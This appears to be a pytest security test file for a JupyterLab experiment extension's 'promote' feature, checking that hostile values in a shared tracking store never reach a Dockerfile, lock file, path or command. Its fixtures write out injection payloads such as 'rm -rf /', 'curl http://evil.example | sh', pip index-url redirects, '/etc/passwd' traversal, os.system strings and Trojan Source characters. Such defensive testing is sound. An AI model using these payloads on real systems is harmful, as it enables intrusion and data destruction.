"""Promote trusts nothing it reads from the store: hostile runs written straight into a real store.

On a team server whoever can write a run's tags and artifacts decides what they hold. Each test
writes such a run (no folder on this machine, so it counts as recorded elsewhere) and checks
that its values are refused or neutralised with a note, and never reach a path, the Dockerfile,
requirements.lock, python_env.yaml, script.py or a command; and that the dry run shows the code
and provenance and runs nothing.
"""

from __future__ import annotations

import ast
import json
import os
import platform
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from tornado.httpclient import HTTPClientError

from conftest import write_notebook, xp_server_config
from jupyterlab_xp.core import tags
from jupyterlab_xp.core.errors import XpError
from jupyterlab_xp.promote import build, bundle, jobs, preview
from jupyterlab_xp.promote.source import from_run

pytest_plugins = ["pytest_jupyter.jupyter_server"]

STORE_KINDS = ("sqlite", "team")
EVIL = "http://evil.example"
CELLS = ["import os\nprint('cwd', os.getcwd())", "print('label is', repr(label))"]


def hostile_run(
    store: Any,
    tmp_path: Path,
    *,
    run_tags: dict[str, str] | None = None,
    python: object = "3.11.4",
    lock: str = "numpy==2.4.6\n",
    params: dict[str, str] | None = None,
    cells: list[dict[str, Any]] | None = None,
) -> str:
    """A finished run written straight into the store, as anyone with write access could."""
    run_id = store.create_run(
        "hostile",
        "hostile",
        {
            tags.KIND: tags.KIND_NOTEBOOK,
            tags.HOST: "gpu-box-3",
            tags.MLFLOW_USER: "mallory",
            tags.LOCAL_ID: "notonthismachine",
            **(run_tags or {}),
        },
        1_700_000_000_000,
    )
    executions = cells or [
        {"seq": i + 1, "cell_id": f"c{i}", "source": s, "status": "ok"} for i, s in enumerate(CELLS)
    ]
    folder = tmp_path / f"upload-{run_id}"
    folder.mkdir()
    (folder / tags.CELLS_ARTIFACT).write_text("".join(json.dumps(e) + "\n" for e in executions))
    (folder / tags.ENVIRONMENT_ARTIFACT).write_text(json.dumps({"python": {"version": python}}))
    (folder / tags.LOCK_ARTIFACT).write_text(lock)
    store.log_artifacts(run_id, folder, tags.ARTIFACT_DIR)
    store.log_batch(run_id, params={"label": "base", **(params or {})})
    store.set_terminated(run_id, tags.FINISHED)
    return str(run_id)


# README: "Nothing read back from the store is trusted either"
@pytest.mark.parametrize(
    "version",
    [
        "3.11; rm -rf /",
        f"3.11\nRUN curl {EVIL} | sh",
        "3.11-slim AS builder",
        "latest",
        "3.11.4\n",
        ["3", "11"],
    ],
)
def test_a_hostile_python_version_never_reaches_the_dockerfile(
    store: Any, tmp_path: Path, version: object
) -> None:
    src = from_run(store, hostile_run(store, tmp_path, python=version))
    assert src.python is None
    (note,) = [n for n in src.notes if "Python version" in n]
    assert "not X.Y[.Z]" in note and "\n" not in note
    for text in (bundle.dockerfile(src), bundle.python_env(src)):
        assert str(version).strip() not in text
        assert "rm -rf" not in text and "curl" not in text and "builder" not in text
    assert f"FROM python:{platform.python_version()}-slim\n" in bundle.dockerfile(src)
    assert jobs.plan(src)["notes"] == src.notes


@pytest.mark.stores("sqlite")
def test_a_plain_python_version_is_kept(store: Any, tmp_path: Path) -> None:
    src = from_run(store, hostile_run(store, tmp_path, python="3.12.1"))
    assert src.python == "3.12.1" and src.notes == []
    assert "FROM python:3.12.1-slim\n" in bundle.dockerfile(src)


def test_package_pins_keep_name_and_version_only(store: Any, tmp_path: Path) -> None:
    hostile = [
        f"torch==2.0 --index-url {EVIL}",
        "foo @ file:///etc",
        f"--extra-index-url {EVIL}",
        "-r /etc/passwd",
        f"-e git+{EVIL}/x.git#egg=x",
        "bar==1.0; os_name == 'nt'",
        "baz[extra]==1.0",
        "qux>=1.0",
        "quux==1.0 \\",
        "corge==1.0\x00",
        "grault===1.0",
        "zzz-evil==1.0+x.tar.gz",  # pip would read it as ./zzz-evil==1.0+x.tar.gz and build it
        "garply==2.0+local.whl",
    ]
    # A line break inside a value makes a line of its own, as pip reads the file.
    broken = [f"ok==1.0\r--index-url {EVIL}", "ok2==1.0\u2028-r /etc/shadow"]
    lock = "\n".join(["# Exact packages", "numpy==2.4.6", *hostile, "torch==2.13.0+cu118", *broken])
    src = from_run(store, hostile_run(store, tmp_path, lock=lock))
    full = bundle.lock_text(src)
    # The one option line is PyTorch's own index of the pinned CUDA build: a fixed host
    options = [line for line in full.splitlines() if line.startswith("-")]
    assert options == ["--extra-index-url https://download.pytorch.org/whl/cu118"]
    written = full.replace(options[0], "")
    pins = [line for line in written.splitlines() if line and not line.startswith("#")]
    assert pins == ["numpy==2.4.6", "torch==2.13.0+cu118", "ok==1.0", "ok2==1.0"]
    for word in ("evil", "file:", "/etc", "-r", "-e", "nt", "extra", "\\", "\x00"):
        assert word not in written, word
    (note,) = [n for n in src.notes if "package lock" in n]
    assert note.startswith(f"{len(hostile) + 2} line(s) of the recorded package lock left out")
    assert "\n" not in note and "not plain name==version pins" in note
    assert "15 line(s) of the recorded lock were left out" in written
    assert "tar.gz" not in written and ".whl" not in written
    assert "-r requirements.lock" in bundle.python_env(src)  # only ever the checked file


@pytest.mark.stores("sqlite")
def test_notebook_path_tags_are_confined_to_the_root(store: Any, tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "team").mkdir(parents=True)
    (root / ".secret").mkdir()
    inside = write_notebook(root / "team" / "train.ipynb", [{"source": "x = 1"}])
    outside = write_notebook(tmp_path / "elsewhere.ipynb", [{"source": "x = 1"}])
    (root / "team" / "link.ipynb").symlink_to(outside)
    write_notebook(root / ".secret" / "nb.ipynb", [{"source": "x = 1"}])
    hostile = {
        "../../etc/passwd": "'..'",
        str(root / ".." / ".." / "etc" / "passwd"): "'..'",
        "/etc/passwd": "outside",
        str(outside): "outside",
        str(root / "team" / "link.ipynb"): "resolves outside the server root",
        str(root / ".secret" / "nb.ipynb"): "hidden",
        "s3://bucket/train.ipynb": "local file",
        str(root / "team" / "missing.ipynb"): "no notebook",
        str(root / "team" / "train.ipynb\nprint(1)"): "control characters",
    }
    for tag, words in hostile.items():
        run_id = hostile_run(store, tmp_path, run_tags={tags.NOTEBOOK_PATH: tag})
        src = from_run(store, run_id, root)
        assert src.notebook_path is None, tag
        (note,) = [n for n in src.notes if "notebook path" in n]
        assert words in note and note.endswith("fresh folder (the bundle's)"), (tag, note)
        assert "\n" not in note
        plan = jobs.plan(src)
        assert plan["notebook"] is None and plan["provenance"]["notebook"] is not None
        assert "\n" not in plan["provenance"]["notebook"]
    # Without a root (the kernel's %xp promote of a run recorded elsewhere): never used
    run_id = hostile_run(store, tmp_path, run_tags={tags.NOTEBOOK_PATH: str(inside)})
    assert from_run(store, run_id).notebook_path is None
    # A notebook under the root is where the job runs
    assert from_run(store, run_id, root).notebook_path == inside.resolve()


def test_params_that_are_code_stay_strings_or_are_left_out(store: Any, tmp_path: Path) -> None:
    code = "__import__('os').system('touch pwned')"
    run_id = hostile_run(
        store,
        tmp_path,
        params={"import os": "1", "x:os.system": "2", "path/to": "3", "label2": code},
        cells=[
            {
                "seq": 1,
                "cell_id": "c\nimport os; os.system('id')",
                "source": "y = 1",
                "status": "ok",
            }
        ],
        run_tags={tags.PYTHONHASHSEED: "0; rm -rf /"},
    )
    store.log_batch(run_id, params={tags.SEED_PARAM: "\u00b2"})  # a digit to str.isdigit
    src = from_run(store, run_id)
    assert src.params == {"label": "base", "label2": code}
    assert src.seed is None and src.pythonhashseed is None
    (note,) = [n for n in src.notes if "param name" in n]
    assert "'import os'" in note and "'x:os.system'" in note and "'path/to'" in note
    cells = build.plan_cells(src, "recorded")
    params_cell = next(c for c in cells if c.parameters)
    for statement in ast.parse(params_cell.source).body:  # assignments of plain literals only
        assert isinstance(statement, ast.Assign) and isinstance(statement.targets[0], ast.Name)
        ast.literal_eval(statement.value)
    assert f"label2 = {code!r}" in params_cell.source
    # A cell id that holds a line of code is one line in script.py: a comment
    script = bundle.script(src, cells, src.params, 0)
    assert all(
        line.lstrip().startswith("#") for line in script.splitlines() if "os.system('id')" in line
    )
    tree = ast.parse(script)
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Attribute) and n.attr == "system"]
    assert calls == []
    # Overrides are checked the same way before anything is written
    with pytest.raises(XpError, match="identifiers"):
        jobs.check(src, params={"x = 1\nimport os\nos.system('id')\ny": 1})
    with pytest.raises(XpError, match="unknown parameter"):
        jobs.check(src, params={"import_os": 1})


# README: "Everything captured is shown as text, never as HTML"
def test_cells_are_shown_as_text_with_hidden_characters_escaped(store: Any, tmp_path: Path) -> None:
    # "Trojan Source": a right-to-left override makes code read unlike what it does
    trojan = 'access = "user\u202e \u2066# admin?\u2069 \u2066"\nprint(access)\u200b'
    cells = [{"seq": 1, "cell_id": "t", "source": trojan, "status": "ok"}]
    cells.append({"seq": 2, "cell_id": "big", "source": "x = 1\n" * 5000, "status": "ok"})
    src = from_run(store, hostile_run(store, tmp_path, cells=cells))
    plan = jobs.plan(src)
    recorded = plan["code"]["recorded"]
    shown = next(c for c in recorded["cells"] if c["label"] == "seq 1 (cell t)")
    assert shown["hidden_chars"] == 5
    assert "\\u202e" in shown["source"] and "\u202e" not in shown["source"]
    assert shown["source"].endswith("print(access)\\u200b")
    big = next(c for c in recorded["cells"] if c["label"] == "seq 2 (cell big)")
    assert len(big["source"]) == preview.MAX_CELL_CHARS and big["omitted_chars"] == 10_000
    assert [c["label"] for c in recorded["cells"]][-1] == "added by promote"
    assert recorded["sha256"] == preview.code_digest(build.plan_cells(src, "recorded"))
    assert plan["provenance"] == {
        "run_id": src.run_id,
        "host": "gpu-box-3",
        "user": "mallory",
        "notebook": None,
        "recorded": 1_700_000_000_000,
        "experiment": "hostile",
        "code_from": "store",
    }


# README: "a promotion is refused when the code it would run is no longer the code the dialog
#   showed"
def test_code_that_changed_since_it_was_shown_is_refused(store: Any, tmp_path: Path) -> None:
    run_id = hostile_run(store, tmp_path)
    shown = jobs.plan(from_run(store, run_id))["code"]["recorded"]["sha256"]
    assert jobs.check(from_run(store, run_id), code_sha256=shown)["code_sha256"] == shown
    # When the store's copy of the code is swapped after the user looked at it
    swapped = tmp_path / "swap" / tags.CELLS_ARTIFACT
    swapped.parent.mkdir()
    swapped.write_text(json.dumps({"seq": 1, "source": "import os", "status": "ok"}) + "\n")
    store.log_artifact(run_id, swapped, tags.ARTIFACT_DIR)
    with pytest.raises(XpError, match="not the code you were shown"):
        jobs.create(store, from_run(store, run_id), code_sha256=shown)
    assert not (store.location.home / "promotions").exists()


def _cli(*args: str, home: Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("MLFLOW_", "XP_"))}
    env["XP_HOME"] = str(home)
    if "MLFLOW_TRACKING_URI" in os.environ:  # the team server
        env["MLFLOW_TRACKING_URI"] = os.environ["MLFLOW_TRACKING_URI"]
    return subprocess.run(
        [sys.executable, "-m", "jupyterlab_xp", *args],
        env=env,
        cwd=cwd,
        stdin=subprocess.DEVNULL,  # nobody to answer a question: commands that ask refuse
        capture_output=True,
        text=True,
        timeout=300,
    )


# README: "writes and runs nothing"
def test_dry_run_shows_the_code_and_provenance_and_runs_nothing(
    store: Any, tmp_path: Path, xp_home: Path
) -> None:
    root = tmp_path / "root"
    root.mkdir()
    run_id = hostile_run(
        store,
        tmp_path,
        python="3.11; rm -rf /",
        run_tags={tags.NOTEBOOK_PATH: "/etc/passwd"},
        cells=[
            {"seq": 1, "cell_id": "a", "source": "x = 1", "status": "ok"},
            {"seq": 2, "cell_id": "b", "source": "print('\u202e', x)", "status": "ok"},
            {"seq": 3, "cell_id": "c", "source": "raise SystemExit", "status": "error"},
        ],
    )
    ran = _cli("promote", run_id[:8], "-p", "label", "'other'", "--dry-run", home=xp_home, cwd=root)
    assert ran.returncode == 0, ran.stderr
    out = ran.stdout
    assert out.startswith("dry run: nothing was run and nothing was written")
    assert "recorded    by mallory on gpu-box-3 " in out and "/etc/passwd  (as recorded)" in out
    assert "code from   the store's copy" in out and "runs in     a fresh folder" in out
    assert "not X.Y[.Z]" in out and "'3.11; rm -rf /'" in out
    # Every cell that runs, in order, in full; the failed one is not replayed
    order = [out.index(s) for s in ("label = 'base'", "%xp start", "x = 1", "print('\\u202e', x)")]
    assert order == sorted(order) and "raise SystemExit" not in out
    assert "(1 hidden characters shown as escapes)" in out and "\u202e" not in out
    assert "papermill adds after it: label = 'other'" in out
    # Nothing ran: no job folder, no bundle, no promoted run
    assert not (xp_home / "promotions").exists() and not (xp_home / "bundles").exists()
    assert [r.info.run_id for r in store.search_runs()] == [run_id]

    as_json = _cli("promote", run_id, "--dry-run", "--json", home=xp_home, cwd=root)
    body = json.loads(as_json.stdout)
    assert body["dry_run"] is True and body["order"] == "recorded"
    assert [c["source"] for c in body["code"]["cells"]][2:4] == ["x = 1", "print('\\u202e', x)"]
    assert body["plan"]["provenance"]["host"] == "gpu-box-3"
    # A request the promotion would refuse is refused by the dry run too, in one line
    bad = _cli("promote", run_id, "-p", "import os", "1", "--dry-run", home=xp_home, cwd=root)
    assert bad.returncode == 2 and "identifiers" in bad.stderr
    assert len(bad.stderr.strip().splitlines()) == 1
    assert not (xp_home / "promotions").exists()


def _wait(store: Any, job_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        job = jobs.read(store.location, job_id)
        if job["state"] not in jobs.ACTIVE:
            return job
        time.sleep(0.5)
    raise TimeoutError(job_id)


# README: "Nothing read back from the store is trusted either"
# docs/design.md: "Nothing the store says chooses what runs"
@pytest.mark.slow
def test_a_hostile_run_promoted_end_to_end_writes_none_of_it(
    store: Any, tmp_path: Path, xp_home: Path
) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "outside").mkdir()
    outside = write_notebook(tmp_path / "outside" / "nb.ipynb", [{"source": "x = 1"}])
    code = "__import__('pathlib').Path('pwned').touch()"
    run_id = hostile_run(
        store,
        tmp_path,
        python=f"3.11\nRUN curl {EVIL} | sh",
        lock=f"numpy==2.4.6\ntorch==2.0 --index-url {EVIL}\nfoo @ file:///etc\n",
        params={"label": code},
        run_tags={tags.NOTEBOOK_PATH: str(outside), tags.PYTHONHASHSEED: "0\nX"},
    )
    src = from_run(store, run_id, root)
    job = _wait(store, jobs.create(store, src, root=root)["id"])
    assert job["state"] == "finished", job
    folder = Path(job["bundle"])
    executed = (folder / "executed.ipynb").read_text()
    assert f"cwd {folder}" in executed  # a fresh folder, not the notebook's outside the root
    assert "label is" in executed and json.dumps(repr(code))[1:-1] in executed
    assert not any(p.name == "pwned" for p in tmp_path.rglob("pwned"))
    for name in (bundle.DOCKERFILE, bundle.LOCK, bundle.PYTHON_ENV, bundle.MLPROJECT):
        text = (folder / name).read_text()
        assert "evil" not in text and "file:" not in text and "curl" not in text, name
    assert (
        f"FROM python:{platform.python_version()}-slim" in (folder / bundle.DOCKERFILE).read_text()
    )
    assert "numpy==2.4.6" in (folder / bundle.LOCK).read_text()
    notes = json.loads((folder / bundle.METADATA).read_text())["notes"]
    assert len(notes) == 3 and all("\n" not in n for n in notes)
    ast.parse((folder / bundle.SCRIPT).read_text())


@pytest.fixture
def jp_server_config(xp_home: Any) -> dict[str, Any]:
    return xp_server_config()


async def test_the_rest_plan_shows_code_and_provenance_and_pins_what_was_shown(
    jp_fetch: Any, jp_root_dir: Path, store: Any, tmp_path: Path, xp_home: Path
) -> None:
    outside = write_notebook(tmp_path / "elsewhere.ipynb", [{"source": "x = 1"}])
    run_id = hostile_run(store, tmp_path, run_tags={tags.NOTEBOOK_PATH: str(outside)})
    api = ("jupyterlab-xp", "api", "v1")
    response = await jp_fetch(*api, "promote-plan", params={"run_id": run_id})
    plan = json.loads(response.body)
    assert plan["notebook"] is None and plan["provenance"]["notebook"] == str(outside)
    assert plan["provenance"]["user"] == "mallory" and plan["provenance"]["code_from"] == "store"
    assert any("fresh folder" in note for note in plan["notes"])
    code = plan["code"]["recorded"]
    assert [c["source"] for c in code["cells"]][2:4] == CELLS
    # A promotion sent with a digest that is not the code's is refused, and nothing runs
    for digest, words in (("0" * 64, "not the code you were shown"), ("zz", "code_sha256")):
        with pytest.raises(HTTPClientError) as refused:
            await jp_fetch(
                *api,
                "promotions",
                method="POST",
                body=json.dumps({"run_id": run_id, "code_sha256": digest}),
            )
        assert refused.value.code == 400
        assert refused.value.response is not None
        assert words in json.loads(refused.value.response.body)["message"]
    assert not (xp_home / "promotions").exists()
